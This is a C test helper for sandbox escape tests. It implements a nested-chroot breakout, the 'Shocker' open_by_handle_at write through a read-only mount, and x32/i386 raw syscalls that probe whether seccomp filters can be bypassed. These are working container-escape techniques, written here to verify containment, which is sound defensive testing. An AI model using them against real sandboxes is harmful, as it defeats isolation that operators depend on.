/* escape_helper: attacks that need raw system calls, for tests/e2e/escapes.sh.
 *
 * Built at test time with `gcc -static` so that it also runs inside a minimal
 * root= tree with nothing but busybox. Each command prints one line: "OK" (or
 * what was found) when the call succeeded, the errno name when it failed. A
 * process killed by seccomp (action = kill) prints nothing and dies of SIGSYS.
 *
 *   escape_helper chroot-escape MARKER   nested chroot + chdir(".."): is MARKER reachable?
 *   escape_helper native|x32|i386 getpid
 *   escape_helper native|x32|i386 flock FILE
 *   escape_helper handle-write FILE MOUNT_DIR   reopen FILE by its handle through the mount of
 *                                               MOUNT_DIR (open_by_handle_at) and append to it
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define X32_SYSCALL_BIT 0x40000000L
/* The same calls under the other ABIs' numbers (arch/x86/entry/syscalls). */
#define X32_GETPID 39
#define X32_FLOCK 73
#define I386_GETPID 20
#define I386_FLOCK 143

static int report(long ret, int err) {
  if (ret >= 0) {
    printf("OK\n");
    return 0;
  }
  printf("%s\n", strerrorname_np(err) ? strerrorname_np(err) : "?");
  return 1;
}

/* int $0x80 from 64-bit code: the i386 entry point, i386 numbers, 32-bit arguments. */
static long i386_syscall(long nr, long a, long b) {
  long ret;
  __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b) : "memory");
  return ret;
}

static int abi_call(const char* abi, const char* call, const char* file) {
  int fd = -1;
  if (strcmp(call, "flock") == 0) {
    if (!file) return 2;
    fd = open(file, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return report(-1, errno);
  } else if (strcmp(call, "getpid") != 0) {
    return 2;
  }
  const int is_flock = fd >= 0;
  if (strcmp(abi, "native") == 0) {
    long r = is_flock ? syscall(SYS_flock, fd, LOCK_SH) : syscall(SYS_getpid);
    return report(r, errno);
  }
  if (strcmp(abi, "x32") == 0) {
    long nr = X32_SYSCALL_BIT | (is_flock ? X32_FLOCK : X32_GETPID);
    long r = is_flock ? syscall(nr, fd, LOCK_SH) : syscall(nr);
    return report(r, errno);
  }
  if (strcmp(abi, "i386") == 0) {
    long r = is_flock ? i386_syscall(I386_FLOCK, fd, LOCK_SH) : i386_syscall(I386_GETPID, 0, 0);
    /* The raw entry returns -errno in eax (32-bit). */
    int r32 = (int)r;
    return r32 < 0 ? report(-1, -r32) : report(0, 0);
  }
  return 2;
}

/* The classic escape from chroot(2) (man 2 chroot): chroot into a subdirectory without
 * entering it, so the cwd is outside the new root, climb with "..", chroot there. After a
 * pivot_root with the old root detached, there is nothing above "/" to climb to. */
static int chroot_escape(const char* marker) {
  if (mkdir("/tmp/jh-escape", 0755) != 0 && errno != EEXIST) return report(-1, errno);
  if (chdir("/") != 0) return report(-1, errno);
  if (chroot("/tmp/jh-escape") != 0) {
    printf("chroot:%s\n", strerrorname_np(errno));
    return 1;
  }
  for (int i = 0; i < 256; ++i)
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) {
    printf("chroot2:%s\n", strerrorname_np(errno));
    return 1;
  }
  struct stat st;
  printf(stat(marker, &st) == 0 ? "escaped\n" : "contained\n");
  return 0;
}

/* "Shocker": a handle names the inode, and open_by_handle_at() opens it through whatever mount
 * of the same file system the caller passes, so a read-only bind of FILE's tree does not stop
 * the write when MOUNT_DIR lies on a writable mount. Needs CAP_DAC_READ_SEARCH. */
static int handle_write(const char* file, const char* mount_dir) {
  struct file_handle* fh = malloc(sizeof *fh + MAX_HANDLE_SZ);
  if (!fh) return 2;
  fh->handle_bytes = MAX_HANDLE_SZ;
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, file, fh, &mount_id, 0) != 0) {
    printf("name_to_handle_at:%s\n", strerrorname_np(errno));
    return 1;
  }
  int mfd = open(mount_dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mfd < 0) return report(-1, errno);
  int fd = open_by_handle_at(mfd, fh, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0) {
    printf("open_by_handle_at:%s\n", strerrorname_np(errno));
    return 1;
  }
  static const char line[] = "written through a file handle\n";
  return report(write(fd, line, sizeof line - 1), errno);
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc == 3 && strcmp(argv[1], "chroot-escape") == 0) return chroot_escape(argv[2]);
  if (argc == 4 && strcmp(argv[1], "handle-write") == 0) return handle_write(argv[2], argv[3]);
  if (argc >= 3) return abi_call(argv[1], argv[2], argc > 3 ? argv[3] : NULL);
  fprintf(stderr, "usage: escape_helper chroot-escape MARKER | native|x32|i386 getpid|flock [FILE]\n");
  return 2;
}
